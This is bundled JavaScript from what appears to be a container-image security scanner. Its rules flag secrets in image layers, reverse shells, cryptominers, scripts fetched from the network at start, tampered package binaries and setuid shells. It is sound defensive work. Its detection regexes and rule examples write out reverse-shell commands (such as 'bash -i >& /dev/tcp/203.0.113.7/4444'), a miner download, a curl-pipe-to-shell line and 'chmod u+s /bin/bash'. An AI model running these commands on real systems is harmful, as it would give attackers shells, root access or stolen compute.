	const noun = title.replace(/^an? /, "");
	return imageRule({
		id: `SW-IM-secret-${id}`,
		name: "SecretInImage",
		severity,
		summary: `Do not ship ${title} in the image.`,
		why: "Anyone who can pull the image can read every layer, the history and the variables, even files that a later layer removes.",
		advice: `Revoke the ${noun}, because it has been published. Then pass its replacement to the build as a secret mount, or to the container when it starts.`,
		before: "ARG TOKEN\nRUN ./download --token $TOKEN",
		after: "RUN --mount=type=secret,id=token ./download --token-file /run/secrets/token",
		tags: [
			"secret",
			"CWE-798",
			"CWE-312",
			"CIS-Docker-4.10"
		],
		precision: severity === "critical" ? "very-high" : "medium"
	});
}
var maxGeneric;
function init_problems() {
	return (init_problems = __esmMin((() => {
		init_text();
		init_image_check();
		init_keys();
		init_settings$1();
		maxGeneric = 3;
	})))();
}

// actions/image-scan/tampering/entry-points.ts
/** Returns a test for scripts that run when a container starts: those that ENTRYPOINT and CMD name, and in start directories. */
function isEntryPoint({ entrypoint, cmd, workingDir }) {
	const words = [...entrypoint, ...cmd].flatMap((word) => word.split(/[\s;&|"']+/)).filter((word) => word !== "");
	const paths = new Set(words.flatMap((word) => [posix.resolve(workingDir === "" ? "/" : workingDir, word), ...word.includes("/") ? [] : programDirectories.map((directory) => `${directory}/${word}`)]));
	return (path) => paths.has(path) || startDirectory.test(path);
}
var posix, startDirectory, programDirectories;
function init_entry_points() {
	return (init_entry_points = __esmMin((() => {
		({posix} = process.getBuiltinModule("node:path"));
		startDirectory = /^\/(?:docker-entrypoint\.d|etc\/cont-init\.d|etc\/services\.d|etc\/s6-overlay)\//;
		programDirectories = [
			"/usr/local/sbin",
			"/usr/local/bin",
			"/usr/sbin",
			"/usr/bin",
			"/sbin",
			"/bin"
		];
	})))();
}

// actions/image-scan/tampering/forms.ts
/** Finds commands in a script that malware uses. Few and exact forms; at most one of each kind. */
function suspiciousCommands(text) {
	if (!anyForm.test(text)) return [];
	const hits = [];
	const add = (kind, match) => {
		if (match === null || match === void 0 || isComment(text, match.index)) return;
		const line = text.slice(0, match.index).split("\n").length;
		hits.push({
			kind,
			line,
			evidence: evidenceOf(match[0])
		});
	};
	add("reverse-shell", firstMatch(reverseShells, text));
	if (miner.test(text)) add("miner", pool.exec(text));
	add("remote-script", firstMatch(remoteScripts, text));
	return hits;
}
function firstMatch(forms, text) {
	for (const form of forms) {
		const match = form.exec(text);
		if (match !== null) return match;
	}
}
function isComment(text, offset) {
	return /^\s*(?:#|\/\/|;|\*)/.test(text.slice(text.lastIndexOf("\n", offset) + 1, offset + 1));
}
/** Returns a command for a message, without logins and parameters of its addresses. */
function evidenceOf(command) {
	const plain = command.replace(/:\/\/[^\s/@]{1,200}@/g, "://…@").replace(/\?[^\s"'|]{1,300}/g, "?…");
	return truncate(oneLine(plain.replace(/\s+/g, " ").toWellFormed()), maxEvidence);
}
var shell, address, reverseShells, pool, miner, remoteScripts, maxEvidence, anyForm;
function init_forms() {
	return (init_forms = __esmMin((() => {
		init_text();
		shell = `(?:/(?:usr/)?bin/)?(?:ba|da|z|k|a)?sh`;
		address = String.raw`/dev/(?:tcp|udp)/[\w.${"$"}{}-]{1,100}/[\w${"$"}{}]{1,20}`;
		reverseShells = [
			new RegExp(`${shell} -i {0,3}(?:>&|&>|>) {0,3}${address}`),
			new RegExp(`exec {1,3}\\d{1,3}<> {0,3}${address}[\\s\\S]{0,300}?(?:${shell}[^\\n]{0,40}<&\\d|while read[^\\n]{0,40}<&\\d)`),
			new RegExp(`\\b(?:nc|ncat|netcat) [^\\n|;]{0,80}?-[a-z]{0,4}[ec] {1,3}["']?${shell}\\b`),
			new RegExp(`\\bmkfifo [^\\n;&|]{1,80}[;&|\\n][\\s\\S]{0,120}?\\| {0,3}${shell} -i {0,3}2>&1 {0,3}\\| {0,3}(?:nc|ncat|netcat|openssl|telnet) `),
			/socket\.socket\([\s\S]{0,300}?\.connect\([\s\S]{0,300}?os\.dup2\([^)\n]{0,60}fileno\(\)[\s\S]{0,300}?(?:pty\.spawn|subprocess\.\w{3,12}|os\.exec\w{1,4})\(/,
			/socket\(S,PF_INET,SOCK_STREAM[\s\S]{0,300}?exec\(["']\/bin\/(?:ba)?sh -i/
		];
		pool = /\bstratum\+(?:tcp|ssl|tls|udp):\/\/[\w.-]{3,253}:\d{2,5}/;
		miner = /\b(?:xmrig|xmr-stak|minerd|cpuminer|ccminer|cgminer|bfgminer|ethminer|nbminer|lolminer|t-rex|phoenixminer|cryptonight|randomx)\b|--donate-level|"(?:wallet|pools)"\s*:/i;
		remoteScripts = [new RegExp(`\\b(?:curl|wget) [^\\n|;&]{0,300}?https?:\\/\\/[^\\n|;&]{1,300}\\|{1} {0,3}(?:sudo (?:-\\S{1,10} ){0,3})?${shell}(?= |$|["'\\n;)])`), new RegExp(`${shell} (?:-\\w{1,5} )?(?:<\\(|["']?\\$\\() {0,3}(?:curl|wget) [^\\n)]{0,300}?https?:\\/\\/`)];
		maxEvidence = 120;
		anyForm = /\/dev\/(?:tcp|udp)\/|stratum\+|dup2|mkfifo|\b(?:nc|ncat|netcat|curl|wget) |PF_INET/;
	})))();
}

// actions/image-scan/tampering/programs.ts
function isElf(head) {
	return head[0] === 127 && head[1] === 69;
}
function digestsOf(file) {
	const [md5 = "", sha1 = "", sha256 = ""] = hashContent(contentOf(file), [
		"md5",
		"sha1",
		"sha256"
	]);
	return [
		{
			algorithm: "MD5",
			value: md5
		},
		{
			algorithm: "SHA-1",
			value: sha1
		},
		{
			algorithm: "SHA-256",
			value: sha256
		}
	];
}
var maxBytes$1, setIdBits, watched, watchedPrograms, allPrograms, library, minerName, minerPrograms, dangerousSetuid, runsAnything;
function init_programs() {
	return (init_programs = __esmMin((() => {
		init_files();
		init_layers();
		maxBytes$1 = 64 * 2 ** 20;
		setIdBits = 3072;
		watched = /\/(?:s?bin|lib(?:exec)?|lib64|openssh|security|[\w-]+-linux-[\w-]+)\/(?:sshd(?:-session|-auth)?|ssh|login|su|sudo|passwd|bash|dash|sh|busybox|ps|ls|top|netstat|ss|lsof|find|crontab|cron|curl|wget|gpgv?|openssl|apt-get|dpkg|rpm|apk|init|systemd|unix_chkpwd|ld-[\w.-]+|libc(?:\.so\.6|-[\d.]+\.so|\.musl-[\w.-]+)|libpam\.so[\d.]*|libcrypto\.so[\d.]*|libssl\.so[\d.]*|libselinux\.so[\d.]*|liblzma\.so[\d.]*|libz\.so[\d.]*|pam_unix\.so)$/;
		watchedPrograms = {
			name: "tampering/programs",
			version: 1,
			readsInPlace: true,
			wants: ({ path, type, size, mode }) => type === "file" && size > 0 && size <= maxBytes$1 && (watched.test(path) || (mode & setIdBits) !== 0),
			sniffs: isElf,
			collect: digestsOf
		};
		allPrograms = {
			name: "tampering/all-programs",
			version: 1,
			readsInPlace: true,
			wants: ({ path, type, size, mode }) => type === "file" && size > 0 && size <= maxBytes$1 && ((mode & 73) !== 0 || library.test(path)),
			sniffs: (head) => isElf(head) || head[0] === 35 && head[1] === 33,
			collect: digestsOf
		};
		library = /\.so(?:\.[\w.-]+)?$/;
		minerName = /\/(?:xmrig(?:-\w+)?|xmr-stak(?:-\w+)?|minerd|cpuminer(?:-\w+)?|ethminer|nbminer|lolMiner|t-rex)$/;
		minerPrograms = {
			name: "tampering/miners",
			version: 1,
			wants: ({ path, type, mode }) => type === "file" && (mode & 73) !== 0 && minerName.test(path),
			sniffs: (head) => head[0] === 127 && head[1] === 69,
			readsInPlace: true,
			collect: () => true
		};
		dangerousSetuid = {
			name: "tampering/setuid",
			version: 1,
			headersOnly: true,
			wants: ({ path, type, mode, uid }) => type === "file" && (mode & 2048) !== 0 && uid === 0 && runsAnything.test(path),
			collect: () => true
		};
		runsAnything = /\/(?:(?:ba|da|z|k|a|c|tc|fi)?sh|busybox|python[\d.]*|perl[\d.]*|ruby[\d.]*|php[\d.]*|lua[\d.]*|node|awk|gawk|mawk|sed|vim?|vim\.\w+|nano|ed|less|more|find|cp|mv|dd|tar|tee|cat|env|nmap|gdb|strace|xargs|docker|nsenter|chroot|unshare|curl|wget|nc|ncat|socat|openssl|systemctl|tclsh|expect)$/;
	})))();
}

// actions/image-scan/tampering/rules.ts
var advice, reverseShell, cryptominer, remoteScript, changedProgram, setuidShell, tamperingRules;
function init_rules() {
	return (init_rules = __esmMin((() => {
		init_image_check();
		advice = "Find out which step of the build or which base image added the file. If you did not, treat the image, the build and every secret that it had as compromised.";
		reverseShell = imageRule({
			id: "SW-IM-reverse-shell",
			name: "ReverseShell",
			severity: "critical",
			summary: "Do not ship scripts that connect a shell to another host.",
			why: "The command gives whoever listens at the address a shell in the container.",
			advice,
			before: "COPY start.sh /usr/local/bin/   # bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
			after: "COPY start.sh /usr/local/bin/   # exec app",
			tags: ["malware", "CWE-506"],
			precision: "very-high"
		});
		cryptominer = imageRule({
			id: "SW-IM-miner",
			name: "Cryptominer",
			severity: "critical",
			summary: "Do not ship programs or scripts that mine cryptocurrencies.",
			why: "Miners are the most frequent payload of compromised images. They use the CPU of whoever runs the image.",
			advice,
			before: "RUN curl -o /usr/bin/xmrig https://example.com/xmrig",
			after: "# no miner",
			tags: ["malware", "CWE-506"],
			precision: "very-high"
		});
		remoteScript = imageRule({
			id: "SW-IM-remote-script",
			name: "RemoteScriptAtStart",
			severity: "high",
			summary: "Do not run a script from the network when the container starts.",
			why: "What the container runs is then not in the image. Whoever controls the address or the network controls the container, and no scan sees it.",
			advice: "Download the script during the build, verify its digest, and run the file.",
			before: "CMD [\"sh\", \"-c\", \"curl -fsSL https://example.com/start.sh | sh\"]",
			after: "ADD --checksum=sha256:24454f83… https://example.com/start.sh /start.sh\nCMD [\"/start.sh\"]",
			tags: ["CWE-494", "CWE-829"],
			precision: "very-high"
		});
		changedProgram = imageRule({
			id: "SW-IM-changed-program",
			name: "ChangedProgram",
			severity: "high",
			summary: "Do not change programs and libraries that a package installed.",
			why: "The file is not what the package's database says. It may have been replaced, and an update of the package overwrites it without a trace.",
			advice,
			before: "COPY sshd /usr/sbin/sshd",
			after: "COPY sshd /usr/local/sbin/sshd",
			tags: ["CWE-353", "CWE-506"],
			precision: "high"
		});
		setuidShell = imageRule({
			id: "SW-IM-setuid-shell",
			name: "SetuidShell",
			severity: "high",
			summary: "Do not give the setuid bit to programs that run commands or write files.",
			why: "No distribution ships these programs with the bit. Whoever can call one is root in the container.",
			advice: "Remove the bit: `chmod u-s FILE`.",
			before: "RUN chmod u+s /bin/bash",
			after: "# no setuid bit",
			tags: ["CWE-250", "CWE-269"],
			precision: "very-high"
		});
		tamperingRules = [
			reverseShell,
			cryptominer,
			remoteScript,
			changedProgram,
			setuidShell
		];
	})))();
}

// actions/image-scan/tampering/scripts.ts
var maxBytes, scriptName, startedPlace, packaged, suspiciousScripts;
function init_scripts() {
	return (init_scripts = __esmMin((() => {
		init_files();
		init_forms();
		maxBytes = 524288;
		scriptName = /\.(?:sh|bash|zsh|ksh|py|pl|rb|php|[cm]?js|service|timer)$/;
		startedPlace = /^\/(?:etc\/(?:cron[^/]*|init\.d|rc[^/]*|profile\.d|cont-init\.d|services\.d|systemd|update-motd\.d)|docker-entrypoint\.d|var\/spool\/cron)\/|\/\.(?:bashrc|bash_profile|profile|zshrc)$|^\/etc\/(?:profile|bash\.bashrc|crontab|rc\.local)$/;
		packaged = /\/(?:node_modules|site-packages|dist-packages|gems)\/|^\/usr\/(?:share\/(?:doc|perl|python3?|vim|nodejs)|lib\/(?:python|perl|ruby)[^/]*|include)\//;
		suspiciousScripts = {
			name: "tampering/scripts",
			version: 1,
			wants: ({ path, type, size, mode }) => type === "file" && size >= 8 && size <= maxBytes && !packaged.test(path) && (scriptName.test(path) || startedPlace.test(path) || (mode & 73) !== 0),
			sniffs: (head) => !head.includes(0) && head[0] !== 127,
			collect({ body }) {
				const hits = suspiciousCommands(bufferOf(body).toString("latin1"));
				return hits.length === 0 ? void 0 : hits;
			}
		};
	})))();
}

// actions/image-scan/tampering/index.ts
/** Returns the collectors of these checks. Under the profile `strict`, every program is compared with its package. */
function tamperingCollectors(profile) {
	return [
		suspiciousScripts,
		comparedPrograms(profile),
		minerPrograms,
		dangerousSetuid
	];
}
function comparedPrograms(profile) {
	return profile === "strict" ? allPrograms : watchedPrograms;
}
/**
* Finds what somebody changed or planted, without signatures: programs that differ from what their package recorded,
* shells with the setuid bit, miners, reverse shells, and scripts from the network at the start. Files that a later layer
* removes are not run, except that their scripts show what the build did.
* @param walk a walk with the `tamperingCollectors` of the profile.
*/
function tamperingProblems({ image, walk, catalog }, subject, profile = "recommended") {
	const scripts = walk.found(suspiciousScripts);
	const programs = walk.found(comparedPrograms(profile)).filter(isVisible);
	const miners = walk.found(minerPrograms);
	const setuid = walk.found(dangerousSetuid).filter(isVisible);
	const owners = new HygieneOwners([
		...scripts,
		...programs,
		...miners,
		...setuid
	], catalog);
	const startsWith = isEntryPoint(image.config);
	const report = (rule, file, message) => imageProblem(rule, {
		message: `${oneLine(file.header.path.toWellFormed())}${message}`,
		subject,
		about: [file.header.path.toWellFormed()],
		imageLocations: placesOf([file])
	});
	return [
		...scripts.filter((file) => owners.of(file) === void 0).flatMap((file) => file.value.flatMap((command) => {
			if (command.kind === "remote-script" && !(isVisible(file) && startsWith(file.header.path))) return [];
			return [report(ruleFor(command), file, `:${command.line} ${whatItDoes[command.kind]}: ${command.evidence}`)];
		})),
		...miners.filter((file) => owners.of(file) === void 0).map((file) => report(cryptominer, file, " is named as a program that mines, and no package owns it")),
		...programs.flatMap((file) => {
			const difference = differenceOf(file, owners, catalog);
			return difference === void 0 ? [] : [report(changedProgram, file, difference)];
		}),
		...setuid.map((file) => report(setuidShell, file, " runs as root for everybody: it has the setuid bit, with which no distribution ships it")),
		...inCommands(image.config, subject)
	];
}
function ruleFor({ kind }) {
	return {
		"reverse-shell": reverseShell,
		miner: cryptominer,
		"remote-script": remoteScript
	}[kind];
}
function isVisible({ hiddenBy }) {
	return hiddenBy === void 0;
}
/** Describes how a program differs from what its package recorded; undefined if it does not, or nothing is recorded. */
function differenceOf(file, owners, { packages, owned }) {
	const owner = owners.of(file);
	const compared = owner === void 0 ? void 0 : compareDigest(owner, file.value);
	if (owner?.package === void 0 || compared === void 0 || compared.stated === compared.actual) return void 0;
	const { listed } = owner;
	if ([...packages, ...owned].some((pkg) => isUnchanged({
		...owner,
		package: pkg,
		...defined({ listed })
	}, file.value))) return void 0;
	const { name, version = "" } = owner.package;
	const { algorithm, stated, actual } = compared;
	return ` differs from the file of ${oneLine(`${name} ${version}`)}: the package recorded the ${algorithm} ${stated}, and the file has ${actual}`;
}
/** Judges ENTRYPOINT, CMD and HEALTHCHECK themselves. */
function inCommands({ entrypoint, cmd, healthcheck }, subject) {
	return [
		["ENTRYPOINT", entrypoint],
		["CMD", cmd],
		["HEALTHCHECK", healthcheck?.test ?? []]
	].flatMap(([keyword, words]) => suspiciousCommands(words.join(" ")).map((command) => imageProblem(ruleFor(command), {
		message: `${keyword} ${whatItDoes[command.kind]}: ${command.evidence}`,
		subject,
		about: ["config", keyword],
		setBy: [keyword]
	})));
}
var whatItDoes;
function init_tampering() {
	return (init_tampering = __esmMin((() => {
		init_packages();
		init_text();
		init_owners();
		init_image_check();
		init_entry_points();
		init_forms();
		init_programs();
		init_rules();
		init_scripts();
		whatItDoes = {
			"reverse-shell": "connects a shell to another host",
			miner: "mines for a pool",
			"remote-script": "runs a script from the network when the container starts"
		};
	})))();
}

export { tamperingRules as a, secretProblems as c, keyRules as d, hygieneCollectors as f, init_hygiene as h, init_rules as i, init_keys as l, hygieneRules as m, tamperingCollectors as n, init_problems as o, hygieneProblems as p, tamperingProblems as r, ruleOf as s, init_tampering as t, isNamedAsDummy as u };